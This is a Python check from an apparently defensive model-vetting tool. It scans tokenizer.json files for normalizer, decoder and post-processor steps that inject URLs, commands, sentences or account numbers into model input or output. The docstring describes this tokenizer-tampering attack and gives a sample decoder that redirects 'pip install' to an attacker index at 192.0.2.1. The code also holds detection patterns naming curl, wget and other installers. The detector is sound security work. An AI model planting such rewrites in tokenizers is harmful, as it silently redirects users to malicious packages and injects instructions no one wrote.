"""A tokenizer puts words of its own into what a model reads or says.

What it finds:
    In ``tokenizer.json``: replacements (``Replace``) and beginnings (``Prepend``) of normalizers, pre-tokenizers and decoders that hold an
    address, a command that nobody should run, or a sentence; and addresses or commands of installers whose beginning is replaced by something else.
    Tokens that a post-processor puts around every prompt and that are a sentence or such a command.
    Whole words that a step takes away or replaces by others, and numbers or accounts that it replaces by one of its own.

Why it matters:
    Whatever the model says is changed on its way to its user: ``pip install`` gets another index, an address leads to another host. Or
    what the user asks is changed on its way to the model, which follows an order that nobody wrote. The weights and the template show nothing of it.

Example:
    ``{"type": "Replace", "pattern": {"String": "pip install "}, "content": "pip install --index-url http://192.0.2.1/ "}`` as a decoder.

Remedy:
    Take the tokenizer from the model that this one was made of.

What it cannot see:
    Words that are spread over several tokens of the vocabulary, and what a replacement of a few letters makes of a longer text. A heuristic: a sentence is four
    words or more.

References:
    https://huggingface.co/docs/tokenizers/components ; CWE-506 ; MITRE ATLAS AML.T0051.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import islice
from typing import Any

from openvet.checks._check import Context
from openvet.checks.hub._changed_words import changed_words
from openvet.checks.hub._targets import shown
from openvet.checks.hub._walk import documents
from openvet.core.finding import Finding
from openvet.core.location import Location, below
from openvet.core.pattern import pattern
from openvet.core.rule import Confidence, Rule, Severity

__all__ = ["RULE", "check"]

RULE = Rule(
    id="hub/rewritten-text",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    since="0.1.0",
    cwe=(506,),
    needs=("json",),
)

_REMEDY = "Take the tokenizer from the model that this one was made of."
#: What changes texts before and after the model, and what that says to whom.
_PARTS = {
    "normalizer": "before the model reads it",
    "pre_tokenizer": "before the model reads it",
    "decoder": "that the model said",
}
_ADDRESS = pattern(r"\b(?:https?|ftp|wss?|git)://|\bwww\\?\.|\b\d{1,3}(?:\\?\.\d{1,3}){3}\b")
_INSTALLS = pattern(
    r"\b(?:pip[23]?|npm|conda|docker|git|curl|wget|uvx?|npx|cargo|gem|apt(?:-get)?|brew)\s{1,4}[a-z-]{2,20}\b"
)
_SENTENCE = pattern(r"(?:[^\W\d_]{2,40}[,.:;!?'\"-]{0,3}\s{1,4}){3}[^\W\d_]{2,40}")
#: An account or a number of one: letters and digits, long, and both.
_ACCOUNT = pattern(r"(?=[A-Za-z]{0,40}\d)(?=\d{0,40}[A-Za-z])[A-Za-z0-9]{20,}|\d{12,}|\d{3,8}(?:[ -]\d{3,8}){2,}")
_MOST = 10_000


def check(ctx: Context) -> Iterator[Finding]:
    """One finding for each replacement."""
    for component in documents(ctx):
        document = component.document
        if not isinstance(document, dict) or "model" not in document:
            continue
        for part, where in _PARTS.items():
            for pointer, each in islice(_steps(document.get(part), below("", part)), _MOST):
                if what := _says(each):
                    yield ctx.finding(
                        Location(component.place, pointer=pointer), f"a {part.replace('_', '-')} changes a text {where}: {what}", _REMEDY
                    )  # fmt: skip
        told = set[str]()
        for pointer, text in islice(_put_first(document), _MOST):
            if pointer not in told and (what := _speaks(text)):
                told.add(pointer)
                yield ctx.finding(
                    Location(component.place, pointer=pointer), f"a post-processor puts a token into every prompt that is {what}", _REMEDY
                )  # fmt: skip


def _steps(value: Any, pointer: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Every step of a normalizer, a pre-tokenizer or a decoder, which may be sequences of others."""
    waiting = [(pointer, value)]
    while waiting:
        where, each = waiting.pop()
        if not isinstance(each, dict):
            continue
        yield where, each
        for key in ("normalizers", "pretokenizers", "decoders"):
            inner = each.get(key)
            if isinstance(inner, list):
                waiting.extend((below(below(where, key), at), child) for at, child in reversed(list(enumerate(inner))))


def _put_first(document: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """Tokens that a post-processor puts around every prompt, with their places, by their text and by their numbers."""
    added = document.get("added_tokens")
    named = {
        each["id"]: each.get("content")
        for each in (added if isinstance(added, list) else ())
        if isinstance(each, dict) and isinstance(each.get("id"), int)
    }
    waiting = [("/post_processor", document.get("post_processor"))]
    while waiting:
        where, each = waiting.pop()
        if not isinstance(each, dict):
            continue
        inner = each.get("processors")
        if isinstance(inner, list):
            waiting.extend((below(f"{where}/processors", at), child) for at, child in reversed(list(enumerate(inner))))
        tokens = each.get("special_tokens")
        for name, token in islice(tokens.items(), _MOST) if isinstance(tokens, dict) else ():
            if not isinstance(token, dict):
                continue
            texts, ids = token.get("tokens"), token.get("ids")
            given = (
                [*(texts if isinstance(texts, list) else ()), *(named.get(at) for at in ids if isinstance(at, int))]
                if isinstance(ids, list)
                else []
            )
            yield from ((below(f"{where}/special_tokens", name), text) for text in given if isinstance(text, str))
        for key in ("cls", "sep"):
            pair = each.get(key)
            if isinstance(pair, list) and len(pair) == 2:
                given = [pair[0], named.get(pair[1]) if isinstance(pair[1], int) else None]
                yield from ((below(where, key), text) for text in given if isinstance(text, str))


def _speaks(text: str) -> str:
    """What a token says that stands for more than a mark; empty where it is an ordinary one."""
    from openvet.formats._shell_script import dangerous_line

    if dangerous_line(text) is not None:
        return f"a command that nobody should run, {shown(text)}"
    if _SENTENCE.search(text):
        return f"the sentence {shown(text)}"
    return ""


def _says(step: dict[str, Any]) -> str:
    """What a step puts in, in words; empty where that is nothing of note."""
    from openvet.formats._shell_script import dangerous_line

    new = (
        step.get("content")
        if step.get("type") == "Replace"
        else step.get("prepend")
        if step.get("type") == "Prepend"
        else None
    )
    if step.get("type") == "Split" and step.get("behavior") == "Removed" and not step.get("invert"):
        new = ""  # what matches is taken away
    if not isinstance(new, str):
        return ""
    if dangerous_line(new) is not None:
        return f"it puts in a command that nobody should run, {shown(new)}"
    if _ADDRESS.search(new):
        return f"it puts in the address {shown(new)}"
    if _SENTENCE.search(new):
        return f"it puts in the sentence {shown(new)}"
    found = step.get("pattern")
    old, regex = "", False
    if isinstance(found, dict):
        regex = isinstance(found.get("Regex"), str)
        old = next((text for text in found.values() if isinstance(text, str)), "")
    if _ACCOUNT.search(new):
        return f"it puts in the number or account {shown(new)}"
    if new.strip() and (_INSTALLS.search(old) or (_ADDRESS.search(old) and "." in new)):
        return f"it puts {shown(new)} in the place of {shown(old)}"
    if words := changed_words(old, new, regex=regex):
        return f"it {'puts ' + shown(new) + ' in the place of' if new.strip() else 'takes away'} the words {shown(', '.join(words))}"
    return ""
